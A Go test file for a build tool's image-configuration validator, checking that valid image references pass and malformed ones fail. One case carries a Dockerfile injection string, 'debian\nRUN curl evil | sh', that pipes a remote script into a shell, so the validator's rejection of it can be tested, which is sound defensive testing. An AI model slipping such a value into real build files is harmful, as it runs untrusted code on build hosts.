package plan_test

import (
	"strings"
	"testing"

	"bex.co/bex/builder/plan"
)

func TestDefaultConfigIsValid(t *testing.T) {
	if err := plan.DefaultConfig().Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestConfigValidate(t *testing.T) {
	tests := []struct {
		name   string
		change func(*plan.Images)
		want   []string // substrings of the error; none when valid
	}{
		{"short names, as tests use", func(im *plan.Images) { im.Static, im.Stack = "busybox", "busybox" }, nil},
		{"a registry and a port", func(im *plan.Images) { im.Go = "registry.local:5000/tools/golang:1.26" }, nil},
		{"a digest", func(im *plan.Images) {
			im.Runtime = "gcr.io/distroless/static-debian12@sha256:" + strings.Repeat("a", 64)
		}, nil},
		{"scratch", func(im *plan.Images) { im.Runtime = "scratch" }, nil},
		{"empty", func(im *plan.Images) { im.Node = "" }, []string{`plan: Config.Images.Node is empty: set a base image such as "node:22-bookworm-slim"`}},
		{"upper case", func(im *plan.Images) { im.Python = "Python:3" }, []string{`plan: Config.Images.Python "Python:3" is not an image reference`}},
		{"a second line", func(im *plan.Images) { im.Stack = "debian\nRUN curl evil | sh" }, []string{`Images.Stack "debian\nRUN curl evil | sh" is not an image reference`}},
		{"every problem at once", func(im *plan.Images) { im.Go, im.Static = "", "bad image" }, []string{"Images.Go is empty", `Images.Static "bad image"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := plan.DefaultConfig()
			tt.change(&cfg.Images)
			err := cfg.Validate()
			if len(tt.want) == 0 {
				if err != nil {
					t.Fatalf("Validate: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("Validate accepted %+v", cfg.Images)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
		})
	}
}
